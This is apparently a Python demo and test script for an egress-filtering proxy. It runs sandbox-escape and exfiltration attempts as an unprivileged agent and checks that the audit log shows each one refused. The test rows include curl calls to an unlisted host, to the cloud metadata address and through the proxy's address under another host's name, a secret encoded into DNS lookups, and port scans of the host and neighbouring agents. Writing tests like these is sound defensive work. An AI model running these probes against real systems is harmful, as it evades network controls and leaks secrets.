"""What an agent tries, what it gets, and what the audit log says of it. Every row is an expectation:
the exit status is 1 if one does not hold. `make demo` runs it; `demo.py docker|netns` picks a stage."""

import json
import os
import re
import sys
import time
from dataclasses import dataclass, field
from pathlib import Path

from stage import ORIGIN, OTHER, PORT, Docker, Namespaces

# Tries all targets at once; a target is ADDRESS,PORT. The gateway is the address before the proxy's.
CONNECT = """
import concurrent.futures, ipaddress, os, socket, sys
PROXY = ipaddress.ip_address(os.environ["http_proxy"].split("/")[2].split(":")[0])
def reach(target):
    host, port = target.split(",")
    host = str(PROXY - 1) if host == "gateway" else host
    try:
        socket.create_connection((host, int(port)), 2).close()
        return target
    except OSError:
        return None
with concurrent.futures.ThreadPoolExecutor(64) as pool:
    reached = [target for target in pool.map(reach, sys.argv[1:]) if target]
print("reached", *reached) if reached else print("nothing reached of", len(sys.argv) - 1)
"""
# Goes to the proxy's address under the name of another host.
DISGUISED = """
proxy=${http_proxy#http://}
exec curl -sS --max-time 8 --noproxy '*' --resolve "$1:443:${proxy%:*}" "https://$1/"
"""
DIRECT = ("--noproxy", "*")  # what a program does that knows nothing of the proxy
HELLO = "hello from the origin"
UNREACHED = r"nothing reached of \d+"


def curl(*arguments):
    return ("curl", "-sS", "--max-time", "8", *arguments)


def connect(*targets):
    return ("python3", "-c", CONNECT, *targets)


def dig(*arguments):
    return ("dig", "+time=2", "+tries=1", *arguments)


def decided(via, host, port, decision, reason, **more):
    return dict(event="decision", via=via, host=host, port=port, decision=decision,
                reason=reason, **more)  # fmt: skip


def asked(name, decision, answer, **more):
    return dict(event="dns", name=name, decision=decision, answer=answer, **more)


# What is left to look at afterwards, and how.
LOG = Path("target/demo/audit.jsonl")
REVIEWS = (
    ("--denied ", "what was refused, and why"),
    ("--summary", "what was reached, refused and looked up"),
    ("--suggest", "the lines that would have allowed it"),
)
CLOSED = dict(event="close", outcome="done")


@dataclass
class Row:
    """One try of the agent: its command, what its output must match, and the records it leaves."""

    tried: str
    argv: tuple
    got: str
    records: list = field(default_factory=list)


def play(stage):
    """Every row; `stage` gives the addresses that are known only now."""
    allowed, denied, metadata = "allowed.demo.example", "denied.demo.example", "169.254.169.254"
    secret = "c2VjcmV0LWtleQ"  # data, spelled as a label
    hosts = stage.host_addresses()
    port = int(stage.heard("host").split()[1])
    v4 = next(a for a in hosts if ":" not in a)
    refused = "CONNECT tunnel failed, response 403"
    rows = [
        Row("allowed host, by HTTPS_PROXY", curl(f"https://{allowed}/"), HELLO,
            [decided("connect", allowed, 443, "allow", "allowlisted"), CLOSED]),
        Row("allowed host, by http_proxy", curl(f"http://{allowed}/"), HELLO,
            [decided("http", allowed, 80, "allow", "allowlisted"), CLOSED]),
        Row("allowed host, no proxy set, https", curl(*DIRECT, f"https://{allowed}/"), HELLO,
            [asked(allowed, "allow", "listener", type="A"),
             decided("sni", allowed, 443, "allow", "allowlisted"), CLOSED]),
        Row("allowed host, no proxy set, http", curl(*DIRECT, f"http://{allowed}/"), HELLO,
            [asked(allowed, "allow", "listener", type="A"),
             decided("host", allowed, 80, "allow", "allowlisted"), CLOSED]),
        Row("denied host, by HTTPS_PROXY", curl(f"https://{denied}/"), refused,
            [decided("connect", denied, 443, "deny", "denied_by_rule", status=403)]),
        Row("denied host, no proxy set", curl(*DIRECT, f"https://{denied}/"), "Could not resolve host",
            [asked(denied, "deny", "nxdomain", reason="denied_by_rule")]),
        Row("unlisted host, by HTTPS_PROXY", curl("https://evil.example.net/"), refused,
            [decided("connect", "evil.example.net", 443, "deny", "not_allowlisted")]),
        Row("denied name under the proxy's address",
            ("sh", "-c", DISGUISED, "sh", denied), "unrecognized name",
            [decided("sni", denied, 443, "deny", "denied_by_rule")]),
        Row("metadata address, by the proxy", curl(f"http://{metadata}/latest/"), '"reason": ?"ip_literal"',
            [decided("http", metadata, 80, "deny", "ip_literal", status=403)]),
        Row("metadata address, directly", connect(f"{metadata},80"), UNREACHED),
        Row("data in a DNS name", dig("TXT", f"{secret}.{denied}"), "status: NXDOMAIN",
            [asked(f"{secret}.{denied}", "deny", "nxdomain", type="TXT")]),
        Row("data in a DNS name, another server", dig(f"@{ORIGIN}", f"{secret}.{denied}"),
            "no servers could be reached"),
        Row(f"the host's port, {len(hosts)} addresses of it",
            connect(*(f"{address},{port}" for address in (*hosts, "gateway"))), UNREACHED),
        Row("the host's port, by the proxy", curl(f"http://{v4}:{port}/"), '"reason": ?"ip_literal"',
            [decided("http", v4, port, "deny", "ip_literal")]),
        Row("the origin's address, directly", connect(f"{ORIGIN},443"), UNREACHED),
        Row("a container of another network", connect(f"{OTHER},{PORT}"), UNREACHED),
        Row("another agent", connect(f"{stage.neighbour},{PORT}"),
            f"reached {stage.neighbour}" if stage.neighbour_is_reached else UNREACHED),
    ]  # fmt: skip
    if stage.name == "Docker":
        rows.insert(12, Row("data in a DNS name, Docker's resolver",
                            dig("@127.0.0.11", f"{secret}.x.{denied}"), "status: NXDOMAIN",
                            [asked(f"{secret}.x.{denied}", "deny", "nxdomain")]))  # fmt: skip
    return rows


def matches(record, wanted):
    return all(record.get(key) == value for key, value in wanted.items())


def audit_lines(stage):
    """The lines of the audit log; the copy may meet a write halfway, which is no line yet."""
    return [line for line in stage.audit().splitlines(keepends=True) if line.endswith("\n")]


def records_of(stage, seen, wanted):
    """The records after the first `seen`, once they hold all that is wanted or 5 s have passed."""
    for _ in range(50):
        lines = audit_lines(stage)
        new = [json.loads(line) for line in lines[seen:]]
        new = [record for record in new if record["event"] in ("decision", "close", "dns")]
        if all(any(matches(record, one) for record in new) for one in wanted):
            break
        time.sleep(0.1)
    return new, len(lines)


def told(record):
    """One record in a few words."""
    if record["event"] == "close":
        return f"{record['outcome']}, {record['bytes_up']} B up, {record['bytes_down']} B down"
    if record["event"] == "dns":
        return f"dns {record['type']} {record['decision']}: {record['answer']}"
    return f"{record['via']} {record['decision']}: {record['reason']}"


def judge(row, code, output, records):
    """What does not hold of a row, if anything."""
    if not re.search(row.got, output):
        return f"expected {row.got!r}, got exit {code} and: {output.strip()!r}"
    for wanted in row.records:
        if not any(matches(record, wanted) for record in records):
            return f"no record {wanted}; there are: {records}"
    unexpected = [
        record for record in records
        if record["event"] != "close" and record["decision"] != "deny"
        and not any(matches(record, {**wanted, "type": record.get("type")}) for wanted in row.records)
        and record.get("answer") != "empty"
    ]  # fmt: skip
    if unexpected or (records and not row.records):
        return f"records nobody expected: {unexpected or records}"
    return None


def short(row, code, output):
    """What the agent got, for the table."""
    match = re.search(row.got, output)
    text = match.group() if match else "?"
    return f"exit {code}: {text}" if code else text


def aftermath(stage, requests):
    """What the far sides heard, which the agent cannot have talked away."""
    origin = stage.heard("origin").splitlines()
    names = {line.split()[1] for line in origin if line.startswith("dns ")}
    served = sum(line.startswith("http ") for line in origin)
    reached = {role: stage.heard(role).count("reached") for role in ("host", "other", "neighbour")}
    yield f"upstream DNS was asked for {', '.join(sorted(names))} only", names == {"allowed.demo.example"}
    yield f"the origin served {served} requests, one for each allowed row", served == requests
    yield f"connections to the host: {reached['host']}, to the other network: {reached['other']}", (
        reached["host"] == reached["other"] == 0
    )
    why = "a shared bridge; see README" if stage.neighbour_is_reached else "a network of its own"
    yield f"connections to the other agent: {reached['neighbour']} ({why})", (
        reached["neighbour"] == int(stage.neighbour_is_reached)
    )


def main():
    stage_class = {"docker": Docker, "netns": Namespaces}[sys.argv[1]]
    failures, seen = [], 0
    with stage_class() as stage:
        print(f"Stage: {stage.name}. The agent is user 65534 without capabilities.\n")
        line = "{:2} {:38} {:45} {}"
        print(line.format("", "the agent tried", "and got", "the audit log says"))
        seen = len(audit_lines(stage))
        rows = play(stage)
        for row in rows:
            code, output = stage.run("agent", *row.argv)
            records, seen = records_of(stage, seen, row.records)
            failure = judge(row, code, output, records)
            shown = [one for one in records if any(matches(one, wanted) for wanted in row.records)]
            said = "; ".join(map(told, shown or records)) or "(nothing arrived)"
            print(line.format("" if failure is None else "!!", row.tried, short(row, code, output), said), flush=True)
            failures += [f"{row.tried}: {failure}"] if failure else []
        print()
        for text, held in aftermath(stage, sum(row.got == HELLO for row in rows)):
            print(line.format("" if held else "!!", text, "", "").rstrip())
            failures += [] if held else [text]
        LOG.parent.mkdir(parents=True, exist_ok=True)
        LOG.write_text("".join(audit_lines(stage)))
    print(f"\n{len(rows)} rows, {len(failures)} did not hold.")
    for failure in failures:
        print(f"- {failure}")
    eclusa = os.path.relpath(os.environ["ECLUSA_BINARY"])
    print(f"\nIts audit log is kept in {LOG}:")
    for option, what in REVIEWS:
        print(f"  {eclusa} logs {option} {LOG}   # {what}")
    return 1 if failures else 0


sys.exit(main())
